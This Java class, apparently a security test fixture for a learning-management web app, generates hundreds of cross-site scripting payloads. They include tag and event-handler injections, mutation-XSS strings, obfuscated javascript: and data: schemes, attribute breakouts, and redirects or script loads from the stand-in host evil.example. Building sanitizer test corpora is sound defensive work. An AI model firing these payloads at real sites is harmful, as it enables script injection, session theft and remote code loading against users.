package lms.web.attack;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;

/**
 * What people write who want a script to run. Each payload calls {@code alert} with its own number, or asks the host
 * {@code evil.example} for something.
 */
public final class Payloads {
    /** Stands for the script. */
    private static final String SCRIPT = "\u00a7";

    private static final List<String> TAGS = List.of(
            "<script>\u00a7</script>",
            "<ScRiPt>\u00a7</sCrIpT>",
            "<script\n>\u00a7</script\n>",
            "<script\t>\u00a7</script >",
            "<script/x>\u00a7</script>",
            "<script src=//evil.example/x.js></script>",
            "<script src=data:,\u00a7></script>",
            "<script type=module>\u00a7</script>",
            "<<script>\u00a7//<</script>",
            "<script>\u00a7<!--</script>",
            "</script><script>\u00a7</script>",
            "</title><script>\u00a7</script>",
            "</textarea><script>\u00a7</script>",
            "</style><script>\u00a7</script>",
            "</section></div></main><script>\u00a7</script>",
            "<svg><script>\u00a7</script></svg>",
            "<svg><script>alert&#40;1)</script></svg>",
            "<svg><script xlink:href=data:,\u00a7></script></svg>",
            "<svg><a xlink:href=javascript:\u00a7><text y=20>x</text></a></svg>",
            "<svg><animate onbegin=\u00a7 attributeName=x dur=1s>",
            "<svg><set onbegin=\u00a7 attributeName=x to=1>",
            "<svg><a><animate attributeName=href values=javascript:\u00a7 /><text y=20>x</text></a></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id=x><script>\u00a7</script></svg>#x\"></use></svg>",
            "<svg><foreignObject><iframe src=javascript:\u00a7></iframe></foreignObject></svg>",
            "<svg><image href=//evil.example/x.png></image></svg>",
            "<math><mi xlink:href=javascript:\u00a7>x</mi></math>",
            "<math href=javascript:\u00a7>x</math>",
            "<math><maction actiontype=statusline xlink:href=javascript:\u00a7>x</maction></math>",
            "<iframe src=javascript:\u00a7></iframe>",
            "<iframe srcdoc='<script>parent.\u00a7</script>'></iframe>",
            "<iframe srcdoc=\"&lt;script&gt;parent.\u00a7&lt;/script&gt;\"></iframe>",
            "<iframe src=//evil.example/></iframe>",
            "<object data=javascript:\u00a7></object>",
            "<object data=//evil.example/x.swf></object>",
            "<embed src=javascript:\u00a7>",
            "<embed src=//evil.example/x.swf>",
            "<base href=//evil.example/>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<link rel=preload as=script href=//evil.example/x.js>",
            "<link rel=import href=//evil.example/x>",
            "<meta http-equiv=refresh content='0;url=javascript:\u00a7'>",
            "<meta http-equiv=refresh content='0;url=//evil.example/'>",
            "<style>*{background:url(//evil.example/x.png)}</style>",
            "<style>@import '//evil.example/x.css';</style>",
            "<p style=\"background:url(//evil.example/x.png)\">x</p>",
            "<div style=\"background-image:u\\rl(//evil.example/x.png)\">x</div>",
            "<table background=//evil.example/x.png><tr><td>x",
            "<body background=//evil.example/x.png>",
            "<form action=javascript:\u00a7><button>x</button></form>",
            "<form action=//evil.example/><button>x</button></form>",
            "<form id=f></form><button form=f formaction=javascript:\u00a7>x</button>",
            "<input type=image src=x onerror=\u00a7>",
            "<video src=//evil.example/x.mp4 autoplay></video>",
            "<video poster=//evil.example/x.png></video>",
            "<video><source onerror=\u00a7></video>",
            "<audio src=//evil.example/x.mp3 autoplay></audio>",
            "<picture><source srcset=//evil.example/x.png><img src=x></picture>",
            "<img srcset=//evil.example/x.png>",
            "<img src=//evil.example/x.png>",
            "<a href=javascript:\u00a7>x</a>",
            "<a href=\"javascript:\u00a7\" target=_self>x</a>",
            "<a href=https://example.org ping=//evil.example/>x</a>",
            "<area href=javascript:\u00a7 shape=default>",
            "<template><script>\u00a7</script></template>",
            "<x-y onclick=\u00a7>z</x-y>",
            "<p onclick=\u00a7>z</p>",
            "<div contenteditable onfocus=\u00a7 autofocus>z</div>",
            "<!--<img src=x onerror=\u00a7>-->",
            "<!--><img src=x onerror=\u00a7>-->",
            "<!-- --!><img src=x onerror=\u00a7>",
            "<!--[if IE]><script>\u00a7</script><![endif]-->",
            "<![CDATA[<script>\u00a7</script>]]>",
            "<![CDATA[><img src=x onerror=\u00a7>]]>",
            "<?xml version=1.0?><script>\u00a7</script>",
            "<?><img src=x onerror=\u00a7>",
            "<!DOCTYPE x [<!ENTITY y \"z\">]><script>\u00a7</script>",
            "<%<img src=x onerror=\u00a7>%>",
            "</<img src=x onerror=\u00a7>",
            "<a<img src=x onerror=\u00a7>",
            "<im\u0000g src=x onerror=\u00a7>".replace("\u0000", "\f"),
            "<\u00adimg src=x onerror=\u00a7>",
            "\uff1cimg src=x onerror=\u00a7\uff1e",
            "\u2039img src=x onerror=\u00a7\u203a",
            "&lt;script&gt;\u00a7&lt;/script&gt;",
            "&#60;img src=x onerror=\u00a7&#62;",
            "&#x3c;img src=x onerror=\u00a7&#x3e;",
            "&LT;img src=x onerror=\u00a7&GT;",
            "&amp;lt;img src=x onerror=\u00a7&amp;gt;",
            "%3Cimg src=x onerror=\u00a7%3E",
            "\\<img src=x onerror=\u00a7\\>",
            "\\x3cimg src=x onerror=\u00a7\\x3e",
            "\\u003cimg src=x onerror=\u00a7\\u003e",
            "+ADw-script+AD4-\u00a7+ADw-/script+AD4-",
            "{{constructor.constructor('\u00a7')()}}",
            "${\u00a7}",
            "#{\u00a7}",
            "@if(true)<script>\u00a7</script>@endif",
            "$unsafe{\"<script>\u00a7</script>\"}",
            "{onclick=\u00a7 style=\"x\"}",
            "{#x onmouseover=\"\u00a7\" class=\"y\"}",
            "\n\n:::facilitator{#x onclick=\"\u00a7\"}\n\n<img src=x onerror=\u00a7>\n\n:::\n\n",
            "\n\n```html\" onclick=\"\u00a7\n<img src=x onerror=\u00a7>\n```\n\n",
            "\n\n[x]: javascript:\u00a7 \"><img src=x onerror=\u00a7>\"\n\n[x]\n\n",
            "\n\n| a | <img src=x onerror=\u00a7> |\n| --- | --- |\n| [b](javascript:\u00a7) | c |\n\n",
            "\n---\ntitle: <img src=x onerror=\u00a7>\n---\n");

    /** Harmless for one parser and a script for the next: they change when HTML is parsed a second time. */
    private static final List<String> MUTATING = List.of(
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=\u00a7&gt;\">",
            "<math><mtext><table><mglyph><style><math><img src onerror=\u00a7>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=\u00a7>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=\u00a7>\">",
            "<svg><p><style><!--</style><img src=x onerror=\u00a7>--></style>",
            "<svg><style>&lt;img src=x onerror=\u00a7&gt;</style></svg>",
            "<svg><title><style><img title=\"</style><img src onerror=\u00a7>\">",
            "<svg><desc><noscript>&lt;/noscript&gt;&lt;img src onerror=\u00a7&gt;</noscript>",
            "<noscript><p title=\"</noscript><img src=x onerror=\u00a7>\">",
            "<noembed><img title=\"</noembed><img src=x onerror=\u00a7>\"></noembed>",
            "<noframes><img title=\"</noframes><img src=x onerror=\u00a7>\"></noframes>",
            "<xmp><img title=\"</xmp><img src=x onerror=\u00a7>\"></xmp>",
            "<plaintext><img src=x onerror=\u00a7>",
            "<textarea><img title=\"</textarea><img src=x onerror=\u00a7>\"></textarea>",
            "<title><img title=\"</title><img src=x onerror=\u00a7>\"></title>",
            "<style><img title=\"</style><img src=x onerror=\u00a7>\"></style>",
            "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=\u00a7>\">",
            "<select><iframe><select><img src=x onerror=\u00a7></select>",
            "<table><td><img src=x onerror=\u00a7></table>",
            "<listing>&lt;img src=x onerror=\u00a7&gt;</listing>",
            "<a href=\"`<img src=x onerror=\u00a7>`\">x</a>",
            "<img alt=\"``onerror=\u00a7\" src=x>",
            "<div title=\"&lt;/div&gt;&lt;img src=x onerror=\u00a7&gt;\">x</div>",
            "<p id=\"</p><img src=x onerror=\u00a7>\">",
            "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=\u00a7></annotation-xml></math>",
            "<math><annotation-xml><style><img title=\"</style><img src onerror=\u00a7>\"></annotation-xml></math>",
            "<svg><foreignobject><math><mi><svg><style><img src onerror=\u00a7></style></svg></mi></math>");

    private static final List<String> ELEMENTS = List.of("img src=x", "svg", "body", "details open", "input autofocus");
    private static final List<String> EVENTS = List.of(
            "onerror", "onload", "ontoggle", "onfocus", "onclick", "onmouseover", "onpointerrawupdate", "ONERROR");
    private static final List<String> GAPS = List.of(" ", "/", "\n", "\t", "\f", " x=\"'\" ");
    private static final List<String> OUT_OF = List.of(
            "\" @",
            "' @",
            "` @",
            "\"@",
            "x\" @ y=\"",
            "x' @ y='",
            "&quot; @",
            "&#34; @",
            "&#x22; @",
            "&#39; @",
            "\\\" @",
            "\"/@",
            "\"\n@",
            "\"\t@",
            ") @",
            "\") @",
            "\"> <img src=x @>",
            "'> <img src=x @>",
            "\"></a><img src=x @>",
            "--><img src=x @>",
            "]]><img src=x @>",
            "&quot;&gt;&lt;img src=x @&gt;",
            "\u201d @",
            "\uff02 @",
            "] @",
            "} @");
    private static final List<String> HANDLERS =
            List.of("onerror=\u00a7", "onmouseover=\"\u00a7\"", "autofocus onfocus='\u00a7'");

    private static final List<String> SCHEMES = List.of(
            "javascript:\u00a7",
            "JaVaScRiPt:\u00a7",
            "JAVASCRIPT:\u00a7",
            "javascript:\u00a7//https://example.org",
            "javascript://example.org/%0A\u00a7",
            "javascript://example.org/?%0D%0A\u00a7",
            "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+\u00a7//'>",
            "javascript&colon;\u00a7",
            "javascript&#58;\u00a7",
            "javascript&#x3A;\u00a7",
            "javascript&#0058;\u00a7",
            "javascript%3A\u00a7",
            "javascript%253A\u00a7",
            "%6Aavascript:\u00a7",
            "%6A%61%76%61%73%63%72%69%70%74%3A\u00a7",
            "&#106;avascript:\u00a7",
            "&#x6A;avascript:\u00a7",
            "&#x6Aavascript:\u00a7",
            "&#0000106avascript:\u00a7",
            "&amp;#106;avascript:\u00a7",
            "java&#115;cript:\u00a7",
            "java&Tab;script:\u00a7",
            "java&NewLine;script:\u00a7",
            "java&#9;script:\u00a7",
            "java&#10;script:\u00a7",
            "java&#13;script:\u00a7",
            "java&#0;script:\u00a7",
            "java&shy;script:\u00a7",
            "java&ZeroWidthSpace;script:\u00a7",
            "java%09script:\u00a7",
            "java%0Ascript:\u00a7",
            "java%0Dscript:\u00a7",
            "java\\script:\u00a7",
            "\\javascript:\u00a7",
            "javascript\\:\u00a7",
            "javascript :\u00a7",
            "javascript\u2236\u00a7",
            "javascript\uff1a\u00a7",
            "\uff4aavascript:\u00a7",
            "java\u017fcript:\u00a7",
            "javascr\u0131pt:\u00a7",
            "./javascript:\u00a7",
            "?javascript:\u00a7",
            "#javascript:\u00a7",
            "x:javascript:\u00a7",
            "https:javascript:\u00a7",
            "view-source:javascript:\u00a7",
            "feed:javascript:\u00a7",
            "jar:javascript:\u00a7!/",
            "blob:javascript:\u00a7",
            "filesystem:https://example.org/x",
            "about:blank",
            "file:///etc/passwd",
            "vbscript:\u00a7",
            "livescript:\u00a7",
            "mocha:\u00a7",
            "mhtml:https://example.org/!x",
            "ws://evil.example/",
            "ftp://evil.example/",
            "intent:x#Intent;scheme=javascript;end",
            "data:text/html,<script>\u00a7</script>",
            "data:text/html;base64,=",
            "data:text/html;charset=utf-7,+ADw-script+AD4-\u00a7",
            "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='\u00a7'/>",
            "data:image/svg+xml;base64,=",
            "data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml' onclick='\u00a7'/>",
            "data:,\u00a7",
            "DATA:text/html,<script>\u00a7</script>",
            "d&#97;ta:text/html,<script>\u00a7</script>",
            "da\tta:text/html,<script>\u00a7</script>",
            "//evil.example/x",
            "///evil.example/x",
            "////evil.example/x",
            "\\\\evil.example\\x",
            "/\\evil.example/x",
            "\\/evil.example/x",
            "/\t/evil.example/x",
            "&#47;&#47;evil.example/x",
            "&sol;&sol;evil.example/x",
            "%2F%2Fevil.example/x",
            "/%2Fevil.example/x",
            "/%5Cevil.example/x",
            ".//evil.example/x",
            "..//..//evil.example/x",
            "http:evil.example",
            "//evil%E3%80%82example",
            "\u2215\u2215evil.example/x");

    private static final List<String> LINKS = List.of(
            "[a](@)",
            "[a](<@>)",
            "![a](@)",
            "<@>",
            "[a][z]\n\n[z]: @",
            "[a](@ \"t\")",
            "[![a](@)](@)",
            "::include{file=@}");

    private Payloads() {}

    /** All of them, every one different. */
    public static List<String> all() {
        Set<String> found = new LinkedHashSet<>();
        Stream.concat(TAGS.stream(), MUTATING.stream()).forEach(text -> found.add(numbered(text, found.size())));
        for (String element : ELEMENTS) {
            for (String event : EVENTS) {
                for (String gap : GAPS) {
                    String tag = "<" + element.replace(" ", gap) + gap + event + "=" + SCRIPT + ">";
                    found.add(numbered(tag, found.size()));
                }
            }
        }
        for (String way : OUT_OF) {
            HANDLERS.forEach(handler -> found.add(numbered(way.replace("@", handler), found.size())));
        }
        for (String scheme : SCHEMES) {
            found.add(numbered(scheme, found.size()));
        }
        for (char control : "\u0001\b\t\n\u001f \u00a0\u00ad\u200b\u2028\ufeff".toCharArray()) {
            found.add(numbered(control + "javascript:" + SCRIPT, found.size()));
            found.add(numbered("java" + control + "script:" + SCRIPT, found.size()));
            found.add(numbered("javascript" + control + ":" + SCRIPT, found.size()));
        }
        for (String link : LINKS) {
            for (int i = 0; i < 12; i++) {
                found.add(numbered(link.replace("@", SCHEMES.get(i)), found.size()));
            }
        }
        return new ArrayList<>(found);
    }

    private static String numbered(String text, int number) {
        String script = "alert(" + number + ")";
        String page = "<svg xmlns='http://www.w3.org/2000/svg' onload='" + script + "'/>";
        return text.replace(SCRIPT, script)
                .replace("alert&#40;1)", "alert&#40;" + number + ")")
                .replace("base64,=", "base64," + Base64.getEncoder().encodeToString(page.getBytes(UTF_8)));
    }
}
